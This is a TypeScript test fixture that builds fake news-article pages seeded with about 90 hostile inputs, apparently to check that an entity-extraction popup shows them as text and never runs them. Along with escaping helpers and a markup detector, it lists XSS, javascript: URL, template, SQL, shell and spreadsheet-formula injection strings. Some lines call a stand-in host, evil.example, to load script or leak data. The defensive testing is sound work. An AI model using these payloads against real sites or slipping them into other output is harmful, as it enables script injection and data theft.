/**
 * Hostile input: markup and script payloads that a page can carry in its text, its attributes
 * and its metadata. Every payload that would run if it were ever parsed as HTML, evaluated as a
 * template or followed as a URL sets `__pwned` (or opens a dialog), so a test can tell "shown as
 * text" from "executed". Used by tests/unit/hostile.test.ts and tests/browser/hostile.test.ts.
 *
 * The pages built here carry each payload as *text*: entity-escaped in element content and in
 * attribute values, JSON-escaped (with `<`, `>` and `&` as \u escapes) inside JSON-LD, so a browser
 * shows the payload's characters and never runs them. Only the canonical link, og:url and one
 * article link carry live `javascript:` URLs, which do nothing unless followed.
 */

export interface Payload {
  id: string;
  text: string;
  /** names the entity extractor finds in the payload when it sits in the prose */
  names?: string[];
}

const P = 'window.__pwned=1';

/** At least 50 payloads; ids are unique and stable (test names use them). */
export const PAYLOADS: readonly Payload[] = [
  // HTML and script injection
  { id: 'img-onerror', text: `<img src=x onerror="${P}">` },
  { id: 'img-onerror-alert', text: '<img src=x onerror=alert(1)>' },
  { id: 'script', text: `<script>${P}</script>` },
  { id: 'script-src', text: '<script src="https://evil.example/x.js"></script>' },
  { id: 'svg-onload', text: `<svg onload="${P}">` },
  { id: 'svg-script', text: `<svg><script>${P}</script></svg>` },
  { id: 'iframe-srcdoc', text: `"><iframe srcdoc="<script>parent.__pwned=1</script>">` },
  { id: 'iframe-js', text: `'><iframe src="javascript:parent.__pwned=1">` },
  { id: 'attr-breakout-a', text: `"><a href="javascript:${P}">click</a>` },
  { id: 'a-unquoted', text: '<a href=javascript:alert(1)>x</a>' },
  { id: 'object', text: '<object data="javascript:alert(1)"></object>' },
  { id: 'embed', text: '<embed src="javascript:alert(1)">' },
  { id: 'details-ontoggle', text: `<details open ontoggle="${P}">` },
  { id: 'body-onload', text: `<body onload="${P}">` },
  { id: 'input-autofocus', text: `<input autofocus onfocus="${P}">` },
  { id: 'video-source', text: `<video><source onerror="${P}"></video>` },
  { id: 'base-href', text: '<base href="javascript://evil/">' },
  { id: 'meta-refresh', text: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { id: 'form-action', text: `<form action="javascript:${P}"><button>Go</button></form>` },
  { id: 'custom-onmouseover', text: `<xss onmouseover="${P}">hover me</xss>` },
  { id: 'own-mark-tag', text: `<hashmark-mark data-type="person" data-ref="person:0" onfocus="${P}" tabindex="0">Fake</hashmark-mark>` },
  { id: 'own-ui-tag', text: '<hashmark-ui data-hashmark-ignore><div class="card">Fake card</div></hashmark-ui>' },
  { id: 'mxss-math', text: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { id: 'mxss-noscript', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { id: 'style-breakout', text: `</style><script>${P}</script>` },
  { id: 'script-breakout', text: `</script><script>${P}</script>` },
  { id: 'textarea-breakout', text: `</textarea><img src=x onerror="${P}">` },
  { id: 'title-breakout', text: `</title><img src=x onerror="${P}">` },
  { id: 'html-comment', text: `<!-- --><img src=x onerror="${P}"><!-- -->` },
  { id: 'cdata', text: `<![CDATA[<script>${P}</script>]]>` },
  { id: 'animation', text: `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${P}">` },
  // URLs
  { id: 'js-url', text: `javascript:${P}` },
  { id: 'js-url-case', text: 'JaVaScRiPt:alert(document.domain)' },
  { id: 'js-url-whitespace', text: ' \tjava\nscript:alert(1)' },
  { id: 'js-url-entity', text: 'jav&#x09;ascript:alert(1)' },
  { id: 'data-url', text: `data:text/html,<script>${P}</script>` },
  { id: 'data-url-b64', text: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { id: 'vbscript-url', text: 'vbscript:msgbox(1)' },
  { id: 'url-encoded', text: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  // HTML entities: these characters are the payload; they must never be decoded a second time
  { id: 'entities-named', text: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { id: 'entities-decimal', text: '&#60;img src=x onerror=alert(1)&#62;' },
  { id: 'entities-hex', text: '&#x3C;svg onload=alert(1)&#x3E;' },
  { id: 'entities-amp', text: 'AT&amp;T &amp;lt;b&amp;gt; Tom &quot;&apos;' },
  // template, eval and quoting tricks
  { id: 'template-literal', text: `\${globalThis.__pwned=1}` },
  { id: 'template-backtick', text: '`${alert(1)}`' },
  { id: 'ssti-constructor', text: "{{constructor.constructor('globalThis.__pwned=1')()}}" },
  { id: 'angular', text: "{{$on.constructor('alert(1)')()}}" },
  { id: 'template-math', text: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}' },
  { id: 'quote-breakout-single', text: "';alert(1);//" },
  { id: 'quote-breakout-double', text: '";alert(1);//' },
  { id: 'shell', text: '$(touch /tmp/pwned) `id`' },
  { id: 'proto-pollution', text: '{"__proto__":{"polluted":true}}' },
  { id: 'proto-name', text: '__proto__' },
  { id: 'constructor-name', text: 'constructor' },
  // CSS injection
  { id: 'css-url', text: 'red;background:url(javascript:alert(1))' },
  { id: 'css-breakout', text: '}</style><style>*{background:url("https://evil.example/leak")}</style>' },
  { id: 'css-expression', text: 'width:expression(alert(1))' },
  { id: 'css-import', text: '@import url(https://evil.example/x.css);' },
  // markdown and spreadsheet (CSV) injection
  { id: 'csv-hyperlink', text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' },
  { id: 'csv-dde', text: "=cmd|' /C calc'!A0" },
  { id: 'csv-plus', text: '+1+1' },
  { id: 'csv-at', text: '@SUM(1+1)*cmd|"/C calc"!A0' },
  { id: 'md-link', text: '[click me](javascript:alert(1))' },
  { id: 'md-image', text: '![tracker](https://evil.example/pixel.png)' },
  { id: 'md-autolink', text: '<javascript:alert(1)>' },
  { id: 'md-table', text: '| a | b |\n|---|---|\n| `code` | **bold** |' },
  { id: 'md-data-link', text: `[x](data:text/html,<script>${P}</script>)` },
  // Unicode
  { id: 'bidi-rlo', text: 'invoice\u202Egnp.exe' },
  { id: 'bidi-embedding', text: '\u202Bevil\u202C \u2066isolate\u2069 \u200Fmark' },
  { id: 'zero-width', text: 'Bin\u200Bance La\u200Dzarus\uFEFF Group' },
  { id: 'fullwidth', text: '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E' },
  { id: 'line-separators', text: 'line\u2028separator\u2029paragraph' },
  { id: 'lone-surrogate', text: 'broken \uD800 surrogate \uDFFF here' },
  { id: 'zalgo', text: 'Z\u0337\u0327\u031Ba\u0338l\u0335g\u0336o\u0337 H\u0334\u0321e\u0338 comes' },
  { id: 'null-byte', text: 'Lazarus\u0000Group<script>\u0000alert(1)</script>' },
  { id: 'control-chars', text: 'bell\u0007 escape\u001B[31m red \u0008back' },
  // name-shaped: the entity extractor keeps these (or the words inside them) as names
  { id: 'name-constructor', text: 'Constructor', names: ['Constructor'] },
  { id: 'name-in-markup', text: `<img src=x onerror="${P}">Shadow Kitten</img>`, names: ['Shadow Kitten'] },
  { id: 'name-ampersand', text: 'Smash&Grab Crew', names: ['Smash&Grab Crew'] },
  { id: 'name-sql', text: "O'Neil'); DROP TABLE Users;--", names: ["O'Neil"] },
  { id: 'name-fullwidth', text: '\uFF33\uFF48\uFF41\uFF44\uFF4F\uFF57 \uFF30\uFF41\uFF4E\uFF44\uFF41', names: ['\uFF33\uFF48\uFF41\uFF44\uFF4F\uFF57 \uFF30\uFF41\uFF4E\uFF44\uFF41'] },
  { id: 'name-hyperlink', text: '=HYPERLINK("javascript:alert(1)","Kraken Support")', names: ['HYPERLINK', 'Kraken'] },
  // size
  { id: 'long-string', text: 'A'.repeat(100_000) },
  { id: 'long-markup', text: `<b>${'<i>'.repeat(5_000)}${P}` },
  { id: 'long-word-with-script', text: `${'x'.repeat(20_000)}<script>${P}</script>` },
];

/** Escapes text for element content and double-quoted attribute values. */
export function escapeHtml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** JSON inside <script type="application/ld+json">: `</script>` and `<!--` can never close or confuse it. */
export function jsonForScript(value: unknown): string {
  return JSON.stringify(value).replace(/</g, '\\u003c').replace(/>/g, '\\u003e').replace(/&/g, '\\u0026');
}

/**
 * What serving and parsing HTML does to text: a lone surrogate cannot be encoded in UTF-8 and
 * arrives as U+FFFD; NUL becomes U+FFFD (attributes, scripts) or is dropped (text); CR LF becomes LF.
 */
export function htmlVariants(s: string): string[] {
  const crlf = s.replace(/\r\n?/g, '\n');
  const wellFormed = crlf.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
  return [...new Set([s, crlf, crlf.replace(/\0/g, '\uFFFD'), crlf.replace(/\0/g, ''), wellFormed])];
}

/** A live `javascript:` URL for canonical / og:url: a page cannot run it without a click. */
export const JS_URL = `javascript:${P}`;

/** Prose with names and figures the engine finds, around a payload shown as text. */
function paragraphs(payload: string): string[] {
  const t = escapeHtml(payload);
  return [
    `Hackers linked to North Korea's Lazarus Group deployed a malware strain dubbed “${t}” against customers of the Binance exchange, stealing about $40 million in bitcoin on May 7, 2019, the Federal Bureau of Investigation said on Tuesday.`,
    `Investigators said the attackers hid the string ${t} inside fake invoices sent to 12,000 users in Singapore and South Korea, and that the Treasury Department's Office of Foreign Assets Control was examining the payments.`,
    `Binance chief executive Changpeng Zhao said the exchange would cover the losses from its SAFU fund, and that 7,074 bitcoin had been taken from a single hot wallet, roughly 2% of its holdings.`,
    `The security firm Chainalysis said the group had laundered more than $1.7 billion through mixers over three years, and that a second campaign called ${t} had targeted traders in Hong Kong.`,
  ];
}

export interface HostilePageOptions {
  /** also put the payload in the canonical URL (as `javascript:`) */
  jsCanonical?: boolean;
  /** put the payload in the title, publisher and author too (default); off, the prose alone carries it,
   * so that a name-shaped payload is not dropped as the publisher's own name */
  inMetadata?: boolean;
}

/**
 * A news article page whose title, og:site_name, JSON-LD headline/author/publisher, byline
 * attributes, paragraph attributes and prose all carry `payload` as text.
 */
export function hostilePage(payload: string, options: HostilePageOptions = {}): string {
  const meta = options.inMetadata ?? true ? payload : 'Lazarus raid on Binance';
  const a = escapeHtml(payload);
  const m = escapeHtml(meta);
  const ld = {
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: meta,
    author: [{ '@type': 'Person', name: options.inMetadata ?? true ? payload : 'Jane Doe' }],
    publisher: { '@type': 'Organization', name: options.inMetadata ?? true ? payload : 'The Hostile Times' },
    datePublished: '2019-05-08T09:00:00Z',
    description: payload,
    ...(options.jsCanonical ? { url: JS_URL, mainEntityOfPage: JS_URL } : {}),
  };
  const body = paragraphs(payload)
    .map((p, i) => `<p title="${a}" data-payload="${a}" class="para-${i}" style="color: inherit">${p}</p>`)
    .join('\n');
  return `<!doctype html>
<html lang="en"><head>
<meta charset="utf-8">
<title>${m} | The Hostile Times</title>
<meta property="og:type" content="article">
<meta property="og:site_name" content="${options.inMetadata ?? true ? a : 'The Hostile Times'}">
<meta property="og:title" content="${m}">
<meta name="description" content="${a}">
${options.jsCanonical ? `<link rel="canonical" href="${escapeHtml(JS_URL)}"><meta property="og:url" content="${escapeHtml(JS_URL)}">` : ''}
<script type="application/ld+json">${jsonForScript(ld)}</script>
</head><body>
<header><nav><a href="/">Home</a> <a href="/tech">Technology</a></nav></header>
<main><article>
<h1>${m}</h1>
<p class="byline">By <a rel="author" href="/profile/jane-doe" title="${a}">Jane Doe</a> · <time datetime="2019-05-08">8 May 2019</time></p>
${body}
<p><a href="${escapeHtml(JS_URL)}" title="${a}">Read the FBI statement</a></p>
</article></main>
<footer><p>© The Hostile Times</p></footer>
</body></html>`;
}

/** One page carrying every payload of `list` at once, each in its own paragraph (and in the metadata, joined). */
export function corpusPage(list: readonly Payload[] = PAYLOADS, options: HostilePageOptions = {}): string {
  const joined = list.map((p) => p.text).join(' ');
  const page = hostilePage(joined.slice(0, 5_000), options);
  const extra = list.map((p) => paragraphs(p.text)[0]).map((p, i) => `<p data-payload-id="${escapeHtml(list[i]!.id)}">${p}</p>`).join('\n');
  return page.replace('</article>', () => `${extra}\n</article>`);
}

/**
 * A fixture article with payloads mixed in: the title, og:site_name, a JSON-LD headline, author
 * and publisher (the page's own JSON-LD is dropped so ours is the one read), optionally a
 * `javascript:` canonical link and og:url, and after the story's prose paragraphs (bare `<p>`s with
 * a long text) paragraphs that show the payloads as text, each also in a `title` attribute; every
 * payload of `list` is shown once.
 */
export function infectFixture(html: string, list: readonly Payload[], options: HostilePageOptions = {}): string {
  const texts = list.map((p) => p.text);
  const at = (i: number) => texts[i % texts.length]!;
  const ld = {
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: at(0),
    author: [{ '@type': 'Person', name: at(1) }],
    publisher: { '@type': 'Organization', name: at(2) },
    datePublished: '2020-10-01',
  };
  const js = escapeHtml(JS_URL);
  let out = html
    .replace(/<script type="application\/ld\+json">[\s\S]*?<\/script>/gi, '')
    .replace(/<title>[\s\S]*?<\/title>/i, () => `<title>${escapeHtml(at(0))} | Hostile</title>`)
    // every title a reader of the page could take (the visible headline and og:title too) carries the payload
    .replace(/<meta property="og:title"[^>]*>/gi, () => `<meta property="og:title" content="${escapeHtml(at(0))}">`)
    .replace(/<h1([^>]*)>[\s\S]*?<\/h1>/i, (_m, attrs: string) => `<h1${attrs}>${escapeHtml(at(0))}</h1>`)
    .replace(/<head>/i, () => `<head>\n<meta property="og:site_name" content="${escapeHtml(at(2))}">\n<script type="application/ld+json">${jsonForScript(ld)}</script>`);
  if (options.jsCanonical) {
    out = out
      .replace(/<link rel="canonical"[^>]*>|<meta property="og:url"[^>]*>/gi, '')
      .replace(/<head>/i, () => `<head>\n<link rel="canonical" href="${js}"><meta property="og:url" content="${js}">`);
  }
  const prose = /<p>[^<]{150,}[\s\S]*?<\/p>/g;
  const slots = (out.match(prose) ?? []).length;
  const per = Math.ceil(texts.length / Math.max(1, slots));
  let n = 0;
  out = out.replace(prose, (m) => {
    // a name-shaped payload goes where a name is expected ("a malware strain dubbed “…”")
    const added = list.slice(n, n + per).map((p, k) => `<p title="${escapeHtml(p.text)}" data-hostile="${n + k}">${paragraphs(p.text)[p.names ? 0 : [0, 1, 3][(n + k) % 3]!]}</p>`);
    n += per;
    return [m, ...added].join('\n');
  });
  return out;
}

/**
 * What, in a tree the popup's components rendered, could not have come from the components
 * themselves: a tag they never create, an event-handler or loading attribute, an inline style
 * (except the legend's swatches, coloured from the reader's palette), SVG outside the timeline,
 * an input other than the legend's checkboxes and the lookup's search box, a link whose scheme
 * is not http(s), mailto or local. Self-contained (no outer names), so that a browser test can
 * run its source inside the popup: `(${foreignMarkup})(root)`.
 */
export function foreignMarkup(root: Element): string[] {
  const own = [
    'MAIN', 'HEADER', 'SECTION', 'DIV', 'SPAN', 'P', 'H1', 'H2', 'BUTTON', 'UL', 'OL', 'LI', 'DL', 'DT', 'DD', 'TABLE', 'THEAD',
    'TBODY', 'TR', 'TH', 'TD', 'LABEL', 'SELECT', 'OPTION', 'PRE', 'A', 'STRONG', 'FIGURE', 'FIGCAPTION', 'INPUT', 'DETAILS',
    'SUMMARY', 'SVG', 'LINE', 'G', 'TEXT', 'CIRCLE', 'TITLE',
  ];
  const svg = ['SVG', 'LINE', 'G', 'TEXT', 'CIRCLE', 'TITLE'];
  const out: string[] = [];
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toUpperCase();
    if (!own.includes(tag)) out.push(`element <${tag}>`);
    if (svg.includes(tag) && !el.closest('figure.timeline')) out.push(`<${tag}> outside the timeline`);
    if (tag === 'INPUT' && !['checkbox', 'search'].includes(el.getAttribute('type') ?? '')) out.push(`<input type=${el.getAttribute('type')}>`);
    for (const attr of el.getAttributeNames()) {
      const name = attr.toLowerCase();
      if (name.startsWith('on') || ['srcdoc', 'src', 'formaction', 'action', 'xlink:href', 'background', 'poster'].includes(name)) out.push(`<${tag} ${attr}>`);
      if (name === 'style' && !el.matches('.swatch')) out.push(`<${tag} style>`);
    }
    const href = el.getAttribute('href');
    // a browser drops ASCII whitespace and controls inside a URL's scheme: "java\nscript:" is "javascript:"
    const scheme = href === null ? '' : Array.from(href).filter((c) => c.charCodeAt(0) > 0x20).join('').toLowerCase();
    if (href !== null && !/^(?:https?:|mailto:|#|\/)/.test(scheme)) out.push(`<${tag} href="${href.slice(0, 60)}">`);
  }
  return out;
}
